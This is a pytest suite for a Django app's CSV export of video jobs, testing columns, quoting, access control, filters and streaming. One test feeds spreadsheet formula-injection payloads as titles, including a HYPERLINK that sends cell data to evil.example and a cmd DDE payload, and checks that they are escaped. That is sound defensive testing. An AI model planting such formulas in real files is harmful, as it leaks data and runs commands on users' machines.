"""The CSV export: what a spreadsheet reads, and what it must not run."""

import csv
import io

import pytest
from django.test import Client
from rest_framework.test import APIClient

from videos.api import csv_export
from videos.models import Job, Status
from videos.tests.factories import PAPER, JobFactory, UserFactory, staff_with

pytestmark = pytest.mark.django_db
PATH = "/api/videos/export"


@pytest.fixture
def client():
    return APIClient()


def table(answer) -> list[dict[str, str]]:
    assert answer.status_code == 200
    return list(csv.DictReader(io.StringIO(answer.getvalue().decode("utf-8-sig"), newline="")))


def test_a_finished_video_is_a_row_with_its_paper_and_urls(client):
    job = JobFactory(completed=True, duration=80.04, title="Wirkung von „Spaziergängen“, erklärt")
    (row,) = table(client.get(PATH))
    assert list(row) == [
        *("job_id", "status", "pubmed_id", "title", "journal", "year", "doi", "owner", "created_utc", "finished_utc"),
        *("video_seconds", "error_code", "error_message", "page_url", "video_url", "transcript_url"),
        *("format", "project_id"),
    ]
    assert (row["job_id"], row["status"], row["title"]) == (str(job.pk), "completed", job.title)
    assert (row["journal"], row["year"], row["doi"]) == (PAPER["journal"], PAPER["year"], PAPER["doi"])
    assert row["finished_utc"] == f"{job.finished_at:%Y-%m-%d %H:%M:%S}"
    assert (row["video_seconds"], row["error_code"]) == ("80.0", "")
    assert (row["format"], row["project_id"]) == ("landscape", "")
    assert row["page_url"] == f"http://testserver/jobs/{job.pk}"
    assert row["video_url"] == f"http://testserver/api/videos/{job.pk}/download"
    assert row["transcript_url"] == f"http://testserver/api/videos/{job.pk}/transcript.txt"


def test_a_job_without_a_video_has_empty_cells_or_its_error(client):
    JobFactory(failed=True)
    (failed,) = table(client.get(PATH))
    assert (failed["error_code"], failed["video_url"], failed["journal"]) == ("paper_not_found", "", "")


def test_spreadsheets_can_open_the_file(client):
    JobFactory(title='A "quoted", title\nof two lines')
    answer = client.get(PATH)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"].startswith('attachment; filename="hidden-hill-20')
    content = answer.getvalue()
    assert content.startswith(b"\xef\xbb\xbfjob_id,status,")
    assert b'"A ""quoted"", title\nof two lines"' in content
    assert content.endswith(b"\r\n")


@pytest.mark.parametrize("accept", ["text/csv", "text/html", "*/*", "application/json"])
def test_the_accept_header_is_ignored(client, accept):
    assert client.get(PATH, headers={"Accept": accept})["Content-Type"].startswith("text/csv")


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Open")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
    ],
)
def test_no_cell_is_a_formula(client, title):
    JobFactory(completed=True, title=title, paper=PAPER | {"journal": title, "doi": title})
    (row,) = table(client.get(PATH))
    assert [row["title"], row["journal"], row["doi"]] == [f"'{title}"] * 3


def test_users_export_their_own_jobs(client, settings):
    settings.API_ALLOW_ANONYMOUS = False
    assert client.get(PATH).status_code in (401, 403)
    ada = UserFactory()
    hers, _ = JobFactory(owner=ada), JobFactory(owner=UserFactory())
    client.force_authenticate(ada)
    assert [(row["job_id"], row["owner"]) for row in table(client.get(PATH))] == [(str(hers.pk), ada.username)]
    client.force_authenticate(staff_with("view_job"))
    assert len(table(client.get(PATH))) == 2


def test_the_export_has_the_filters_of_the_list(client):
    failed, _ = JobFactory(failed=True), JobFactory()
    assert [row["job_id"] for row in table(client.get(PATH, {"status": "failed"}))] == [str(failed.pk)]
    assert len(table(client.get(PATH, {"pubmed_id": failed.pubmed_id}))) == 1
    assert client.get(PATH, {"status": "no such"}).status_code == 400


def test_every_job_is_listed_once_newest_first_in_one_query(client, monkeypatch, django_assert_num_queries):
    Job.objects.bulk_create(JobFactory.build(owner=None) for _ in range(7))  # all created at the same moment
    JobFactory()
    monkeypatch.setattr(csv_export, "_CHUNK", 3)
    with django_assert_num_queries(1):
        rows = table(client.get(PATH))
    listed = [job["job_id"] for job in client.get("/api/videos").json()["results"]]
    assert [row["job_id"] for row in rows] == listed
    assert len(set(listed)) == 8


def test_rows_are_streamed_while_they_are_read(client, monkeypatch):
    JobFactory.create_batch(4)
    monkeypatch.setattr(csv_export, "_CHUNK", 2)
    lines = iter(client.get(PATH).streaming_content)
    assert next(lines).endswith(b"project_id\r\n")
    assert next(lines).count(b"\r\n") == 1
    assert sum(chunk.count(b"\r\n") for chunk in lines) == 3


def test_an_operator_exports_the_jobs_selected_in_the_admin():
    client = Client()
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    chosen, _ = JobFactory(title="=1+1", status=Status.QUEUED), JobFactory()
    answer = client.post("/admin/videos/job/", {"action": "export", "_selected_action": [str(chosen.pk)]})
    (row,) = table(answer)
    assert (row["job_id"], row["title"]) == (str(chosen.pk), "'=1+1")
    assert answer["Content-Disposition"].startswith("attachment")
